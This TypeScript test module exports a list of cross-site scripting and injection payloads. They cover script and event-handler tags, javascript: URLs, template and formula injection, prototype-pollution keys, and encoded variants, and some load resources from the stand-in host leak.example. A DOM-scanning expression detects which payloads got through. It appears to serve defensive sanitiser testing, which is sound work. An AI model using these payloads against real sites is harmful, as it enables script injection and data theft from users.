/** What runs when a payload gets its way: it marks the window and opens a dialog. */
const RUN = 'alert(pwned=1)';
/** What is asked for when an address in a payload is followed. */
const HOME = 'https://leak.example/';

/**
 * Texts that do something when they are taken for something else than text: elements, attributes, addresses, styles,
 * templates, and characters that end or hide what stands around them.
 */
export const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${HOME}></SCRIPT>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=${HOME}pixel.gif>`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg onload="${RUN}">`,
  `<svg><script href="${HOME}"></script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src onerror="${RUN}">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="${HOME}"></object>`,
  `<embed src="${HOME}">`,
  `<link rel=stylesheet href=${HOME}>`,
  `<link rel=prefetch href=${HOME}>`,
  `<meta http-equiv=refresh content="0;url=${HOME}">`,
  `<base href="${HOME}">`,
  `<form action="${HOME}"><button autofocus onfocus="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}">`,
  `<video src=${HOME} onloadstart="${RUN}">`,
  `<audio src=${HOME}>`,
  `<body onload="${RUN}">`,
  `<a href="javascript:${RUN}">press</a>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `</textarea><img src=x onerror="${RUN}">`,
  `</title></style></script><script>${RUN}</script>`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<![CDATA[><script>${RUN}</script>]]>`,
  `<style>@import '${HOME}';body{background:url(${HOME})}</style>`,
  `x" style="background:url(${HOME})" x="`,
  `x" onmouseover="${RUN}" x="`,
  `x' autofocus onfocus='${RUN}' x='`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${globalThis.pwned=1}`,
  `<%= pwned=1 %>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `＜script＞${RUN}＜/script＞`,
  `<x contenteditable onblur="${RUN}">lose focus!</x>`,
  `__proto__`,
  `constructor`,
  `=HYPERLINK("${HOME}","pay here")`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
];

/** An expression for what a view has that only a payload could have brought in. */
export const INTRUDERS = `(() => {
  const found = [...document.querySelectorAll('*')].filter((element) =>
    /^(?:script|img|iframe|object|embed|link|meta|base|form|video|audio|style|template|x|math|mglyph|animate)$/.test(element.localName)
      ? [element.getAttribute('src'), element.getAttribute('href'), element.getAttribute('action'), element.innerHTML].some((value) => /leak\\.example|pwned/.test(value ?? ''))
      : [...element.attributes].some(({ name, value }) => /^on/.test(name) || (name === 'style' && /leak/.test(value)) || (name === 'href' && /^(?:javascript|data):/.test(value))));
  return [...found.map((element) => element.outerHTML.slice(0, 200)), ...('pwned' in globalThis ? ['it ran'] : [])];
})()`;
